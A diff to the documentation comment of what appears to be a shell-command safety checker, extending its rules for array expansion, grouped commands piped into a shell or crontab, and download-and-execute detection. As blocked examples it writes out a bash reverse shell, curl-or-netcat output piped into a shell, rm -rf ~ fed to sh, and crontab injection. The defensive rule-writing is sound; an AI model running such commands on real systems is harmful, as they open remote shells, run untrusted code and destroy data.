@@ -58,7 +58,9 @@
 //     may be a file's contents;
 //   - arrays and positional parameters the line sets to known values
 //     (a=(~ /), set -- ~ /): "${a[@]}", "$@", $1 ... and for d; do are
-//     their words;
+//     their words; values added (a+=(~), a[1]=~) are among the words of
+//     "${a[@]}" with the expansion itself for those not known, and
+//     "${a[N]}" is one of an array whose values are all known;
 //   - variables set without "=": loop variables, (( PATH = 1 )),
 //     ${CDPATH:=/etc}, {PATH}>file, getopts and wait -p names, and unset
 //     PATH are judged like assignments;
@@ -73,7 +75,9 @@
 //     it goes: into a shell (printf 'rm -rf %s\n' ~ | sh), to xargs or
 //     a while read loop, as $(...)'s value, or into a file the line then
 //     runs (echo 'rm -rf ~' > a.sh; bash a.sh, source, ./a.sh, through
-//     tee too).
+//     tee too); what a ( ) or { } group of commands writes is the text of
+//     those that spell theirs out, which a shell or crontab it is piped
+//     into reads among the rest ((crontab -l; echo LINE) | crontab -).
 //
 // # Levels
 //
@@ -127,7 +131,8 @@
 //     eval "$(curl ...)", curl ... | tee >(bash), nc HOST PORT | sh, sh <
 //     /dev/tcp/HOST/PORT, the reverse shell bash -i >& /dev/tcp/HOST/PORT
 //     0>&1, a file of a repository the line cloned: git clone URL r &&
-//     bash r/install.sh) is Defaults.DownloadExec (Blocked), and so is
+//     bash r/install.sh, or its Makefile: make -C r, cd r && make; curl
+//     URL | parallel sh -c) is Defaults.DownloadExec (Blocked), and so is
 //     piping it into a program whose code runs what it reads (awk's
 //     system($0) or $0 | getline, sed's s///e or e, an interpreter's
 //     inline code that calls eval, exec, system, popen, spawn, new
